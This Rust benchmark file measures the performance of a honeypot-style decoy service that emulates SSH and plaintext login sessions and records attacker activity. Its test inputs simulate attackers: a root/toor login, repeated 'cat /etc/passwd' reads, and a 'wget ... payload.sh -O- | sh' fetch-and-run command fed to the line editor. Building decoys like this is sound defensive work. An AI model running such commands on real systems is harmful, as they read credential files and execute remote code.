//
// Copyright 2017-2026 Hans W. Uhlig. All Rights Reserved.
//
// Licensed under the Apache License, Version 2.0 (the "License");
// you may not use this file except in compliance with the License.
// You may obtain a copy of the License at
//
//      http://www.apache.org/licenses/LICENSE-2.0
//
// Unless required by applicable law or agreed to in writing, software
// distributed under the License is distributed on an "AS IS" BASIS,
// WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
// See the License for the specific language governing permissions and
// limitations under the License.
//

//! Benchmarks for the session emulators

use criterion::{Criterion, Throughput, criterion_group, criterion_main};
use decoy_service::plaintext::machine::{Input as LoginInput, LoginState};
use decoy_service::ssh::line::LineEditor;
use decoy_service::ssh::machine::{Input, Policy, SessionState};
use decoy_service::{
    AuthAttempt, CaptureEvent, CaptureLog, CaptureRecord, Connection, ConnectionId, MemorySink,
    PlaintextConfig, PlaintextEmulator, Protocol, ServerMetrics, SessionContext,
};
use decoy_sshcodec::{AuthMethod, ChannelRequest, UserauthRequest};
use std::hint::black_box;
use std::sync::Arc;
use tokio::io::{AsyncReadExt, AsyncWriteExt, duplex};
use tokio::runtime::Runtime;

fn shell_script(commands: usize) -> Vec<Input> {
    let mut script = vec![
        Input::HandshakeComplete,
        Input::ServiceRequest("ssh-userauth".into()),
        Input::Auth(UserauthRequest {
            user: "root".into(),
            service: "ssh-connection".into(),
            method: AuthMethod::Password {
                password: "toor".into(),
            },
        }),
        Input::ChannelOpen {
            channel_type: "session".into(),
        },
        Input::ChannelRequest(ChannelRequest::Shell),
    ];
    script.extend((0..commands).map(|i| Input::Line(format!("cat /etc/passwd{i}"))));
    script.push(Input::Line("exit".into()));
    script
}

fn bench_ssh_machine(c: &mut Criterion) {
    let mut group = c.benchmark_group("ssh_machine");
    let policy = Policy::default();

    for commands in [1usize, 100] {
        let script = shell_script(commands);
        group.throughput(Throughput::Elements(script.len() as u64));
        group.bench_function(format!("session_{commands}_commands"), |b| {
            b.iter(|| {
                let mut state = SessionState::new();
                for input in script.iter().cloned() {
                    let transition = state.step(input, &policy);
                    black_box(&transition.outputs);
                    state = transition.state;
                }
                black_box(state)
            });
        });
    }

    group.finish();
}

fn bench_line_editor(c: &mut Criterion) {
    let mut group = c.benchmark_group("line_editor");

    let typed: Vec<u8> = b"wget http://198.51.100.7/payload.sh -O- | sh\r"
        .iter()
        .copied()
        .cycle()
        .take(16 * 1024)
        .collect();
    group.throughput(Throughput::Bytes(typed.len() as u64));
    group.bench_function("bulk_paste_echo", |b| {
        b.iter(|| {
            let mut editor = LineEditor::new(true);
            black_box(editor.feed(&typed))
        });
    });

    let keystrokes = [
        &b"l"[..],
        b"s",
        b"\x1b[A",
        b"\x7f",
        b"s",
        b" ",
        b"-",
        b"l",
        b"\r",
    ];
    group.throughput(Throughput::Elements(keystrokes.len() as u64));
    group.bench_function("interactive_keystrokes", |b| {
        b.iter(|| {
            let mut editor = LineEditor::new(true);
            for key in &keystrokes {
                black_box(editor.feed(key));
            }
        });
    });

    group.finish();
}

fn bench_plaintext_login(c: &mut Criterion) {
    let mut group = c.benchmark_group("plaintext_login");
    let welcome = PlaintextConfig::default().welcome;

    group.bench_function("state_machine", |b| {
        b.iter(|| {
            let mut state = LoginState::default();
            for input in [
                LoginInput::Start,
                LoginInput::Line("admin".into()),
                LoginInput::Line("1234".into()),
            ] {
                let transition = state.step(input, &welcome);
                black_box(transition.event);
                state = transition.state;
            }
        });
    });

    let runtime = Runtime::new().expect("runtime");
    let emulator = PlaintextEmulator::new(PlaintextConfig::default()).expect("emulator");
    group.bench_function("duplex_session", |b| {
        b.to_async(&runtime).iter(|| {
            let emulator = emulator.clone();
            async move {
                let (capture, writer) = CaptureLog::spawn(MemorySink::new());
                let connection = Connection::new(
                    ConnectionId::new(1),
                    "192.0.2.1:40000".parse().expect("address"),
                    Protocol::Plaintext,
                );
                let ctx = SessionContext::new(connection, capture, Arc::new(ServerMetrics::new()));
                let (mut client, server) = duplex(4096);
                let session = tokio::spawn(async move { emulator.serve(server, ctx).await });
                client.write_all(b"admin\r\n1234\r\n").await.expect("write");
                let mut transcript = Vec::new();
                client.read_to_end(&mut transcript).await.expect("read");
                let _ = session.await;
                black_box(writer.finish().await)
            }
        });
    });

    group.finish();
}

fn bench_capture_format(c: &mut Criterion) {
    let connection = Connection::new(
        ConnectionId::new(42),
        "203.0.113.9:51234".parse().expect("address"),
        Protocol::Ssh,
    );
    let record = CaptureRecord::new(
        &connection,
        CaptureEvent::Auth(AuthAttempt::rejected(
            connection.id,
            "root",
            "p@ss\"word\n",
        )),
    );
    c.bench_function("capture_record_format", |b| {
        b.iter(|| black_box(record.to_string()));
    });
}

criterion_group!(
    benches,
    bench_ssh_machine,
    bench_line_editor,
    bench_plaintext_login,
    bench_capture_format
);
criterion_main!(benches);
